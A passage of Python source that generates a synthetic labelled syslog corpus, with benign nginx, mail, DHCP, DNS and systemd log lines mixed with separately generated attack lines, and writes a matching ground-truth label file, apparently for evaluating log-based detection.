            return nginxError('open() "/usr/share/nginx/html/%s" failed (2: No such file or'
                              ' directory)' % pick(("favicon.ico", "apple-touch-icon.png",
                                                    'user "x": password mismatch',
                                                    "client sent invalid method")),
                              client=pick(outside + inside))
        if form < 0.6:
            return nginxError("no user/password was provided for basic authentication",
                              client=pick(outside + inside))
        if form < 0.8:
            return nginxError("client closed connection while waiting for request",
                              level="info", request=False, client=pick(outside + inside))
        if form < 0.9:
            return nginxError("client sent plain HTTP request to HTTPS port while reading client"
                              " request headers", level="info", client=pick(outside + inside))
        s = stamp()
        return "%s [notice] %d#%d: ModSecurity-nginx v1.0.3 (rules loaded inline/local/remote:" \
               " 0/912/0)" % (s["nginx"], 811, 811)

    def b_mail():
        form = r()
        if form < 0.5:
            return "%s%s from %s[%s]" % (head("postfix/smtpd"), pick(("connect", "disconnect")),
                                         pick(("mx1.example.net", "unknown")), src())
        if form < 0.7:
            return "%s%X: client=mx%d.example.net[%s]" % (head("postfix/smtpd"),
                                                           rnd.randrange(1 << 40), rnd.randrange(9), src())
        if form < 0.75:
            return "%simap-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=10.0.0.25, mpid=%d," \
                   " TLS" % (head("dovecot", r() < 0.5), pick(_USERS), pick(inside), rnd.randrange(99999))
        if form < 0.8:
            if r() < 0.5:
                return "%sCONNECT from [%s]:%d to [10.0.0.25]:25" % (head("postfix/postscreen"),
                                                                      src(), port())
            return "%sPASS %s [%s]:%d" % (head("postfix/postscreen"), pick(("OLD", "NEW")), src(),
                                          port())
        if form < 0.85:
            return "%sSMTP connection from %s[%s]:%d I=[10.0.0.25]:25 closed by QUIT" % (
                eximLog(), pick(("", "mx1.example.net ")), src(), port())
        return "%s%X: to=<%s@example.org>, relay=local, delay=0.1, status=sent (delivered)" % (
            head("postfix/local"), rnd.randrange(1 << 40), pick(_USERS))

    def b_other():
        form = r()
        if form < 0.4:
            # (A user name beyond ASCII now and then: syslog keeps UTF-8.)
            return "%sStarted Session %d of User %s." % (head("systemd"), rnd.randrange(9999),
                                                         "jürgen" if r() < 0.1 else pick(_USERS))
        if form < 0.7:
            return "%sDHCPACK on %s to 52:54:00:12:34:%02x via eth0" % (
                head("dhcpd"), pick(inside), rnd.randrange(256))
        return "%sclient @0x7f 10.0.0.%d#%d (www.example.org): query: www.example.org IN A +" % (
            head("named"), rnd.randrange(255), port())

    benign = [b_ssh, b_pam, b_pam, b_sudo, b_su, b_cron, b_audit, b_audit, b_kernel, b_web, b_web,
              b_web, b_web, b_web_error, b_nginx_error, b_mail, b_mail, b_other]
    for _ in range(n):
        x = r()
        if x < attackShare:
            label, fn = pick(attacks)
            yield fn(), label
        elif x < attackShare + 0.04:
            yield (i_accepted() if r() < 0.5 else i_fw_accept()), "informational"
        else:
            yield pick(benign)(), "benign"


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[1])
    parser.add_argument("--lines", type=int, default=1000000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("-o", "--output", required=True,
                        help="the corpus; the labels go to OUTPUT.truth, one a line")
    options = parser.parse_args(argv)
    began = time.perf_counter()
    pairs = list(generate(options.lines, options.seed))
    with open(options.output, "w", encoding="utf-8") as out:
        writeCorpus(out, (line for line, _ in pairs))
    with open(options.output + ".truth", "w", encoding="utf-8") as out:
        writeCorpus(out, (label for _, label in pairs))
    elapsed = time.perf_counter() - began
    print("%d lines in %.2f s" % (options.lines, elapsed), file=sys.stderr)


if __name__ == "__main__":
    main()
